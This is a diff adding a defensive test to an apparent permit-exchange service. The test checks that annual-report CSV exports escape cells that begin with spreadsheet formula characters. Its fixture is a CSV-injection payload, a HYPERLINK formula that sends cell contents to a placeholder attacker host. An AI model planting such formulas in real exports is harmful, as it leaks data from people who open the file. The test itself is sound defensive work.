@@ -361,3 +361,31 @@ async def test_a_permit_counts_in_the_year_of_its_box_13_date(
     assert this_year.status_code == last_year.status_code == 200
     assert this_year.json()["permits_granted"] == {"I": 1}
     assert last_year.json()["permits_granted"] == {}
+
+
+async def test_csv_cells_from_another_partys_permit_are_never_spreadsheet_formulas(
+    client: httpx.AsyncClient, node: Node
+) -> None:
+    """Box 7 is free text that XA signs; XB's Management Authority opens XB's import records
+    in a spreadsheet, which would run a cell starting with =, +, - or @ as a formula. Such a
+    cell starts with an apostrophe in the CSV (the JSON keeps the text as signed)."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Python reticulatus")'
+    permit = demo_permit(number="XA-AR-FORMULA", lines=1)
+    permit = replace(permit, lines=(replace(permit.lines[0], scientific_name=formula),))
+    key_pem, cert_pem = node.demo.signing_identity("XA")
+    sent = await client.post(
+        "/v1/messages",
+        content=sign_document(write_permit(permit), key_pem, cert_pem),
+        headers=headers(node.key("XA", MA)),
+    )
+    assert sent.status_code == 201, sent.text
+    await _endorse(client, node, "XA-AR-FORMULA", "import", "10")
+    as_csv = await client.get(
+        f"/v1/reports/annual/XB/{THIS_YEAR}", params={"format": "csv"}, headers=auth(node, "XB", MA)
+    )
+    as_json = await client.get(f"/v1/reports/annual/XB/{THIS_YEAR}", headers=auth(node, "XB", MA))
+    assert as_csv.status_code == as_json.status_code == 200
+    [row] = list(csv.DictReader(io.StringIO(as_csv.text)))
+    assert row["taxon"] == "'" + formula
+    assert row["quantity"] == "10"
+    assert as_json.json()["records"][0]["taxon"] == formula
